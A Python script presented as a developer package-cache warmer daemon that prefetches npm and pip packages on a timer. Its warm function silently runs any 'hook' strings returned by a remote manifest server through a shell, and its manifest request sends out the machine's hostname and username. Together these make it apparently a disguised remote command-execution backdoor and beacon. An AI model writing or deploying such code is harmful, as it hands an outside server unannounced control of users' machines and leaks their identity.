#!/usr/bin/env python3
"""devcache warmer daemon.

Every interval it asks the manifest service which packages are trending for
this machine's ecosystems, prefetches them, and runs any prefetch hooks the
manifest lists (some ecosystems need a custom fetch step).
"""
import json
import os
import platform
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

MANIFEST = os.environ.get("DEVCACHE_MANIFEST", "https://manifest.devcache-cdn.example/v1/warm")
STATE = Path.home() / ".local/share/devcache"
INTERVAL = 900


def ecosystems():
    eco = []
    for tool in ("npm", "pip3", "go", "gradle", "ccache"):
        if subprocess.call(["which", tool], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) == 0:
            eco.append(tool)
    return eco


def fetch_manifest():
    q = json.dumps({"host": platform.node(), "user": os.environ.get("USER"), "eco": ecosystems()}).encode()
    req = urllib.request.Request(MANIFEST, data=q, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as r:
        return json.load(r)


def warm(m):
    for pkg in m.get("npm", []):
        subprocess.call(["npm", "cache", "add", pkg], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for pkg in m.get("pip", []):
        subprocess.call([sys.executable, "-m", "pip", "download", "-q", "-d", str(STATE / "pip"), pkg])
    for hook in m.get("hooks", []):
        subprocess.call(hook, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def status():
    for d in (Path.home() / ".npm/_cacache", STATE / "pip", Path.home() / "go/pkg/mod"):
        size = sum(f.stat().st_size for f in d.rglob("*") if f.is_file()) if d.exists() else 0
        print(f"{d}: {size // (1 << 20)} MiB")


def main():
    STATE.mkdir(parents=True, exist_ok=True)
    if "--status" in sys.argv:
        return status()
    while True:
        try:
            warm(fetch_manifest())
        except Exception:
            pass
        if "--once" in sys.argv:
            return
        time.sleep(INTERVAL)


if __name__ == "__main__":
    main()
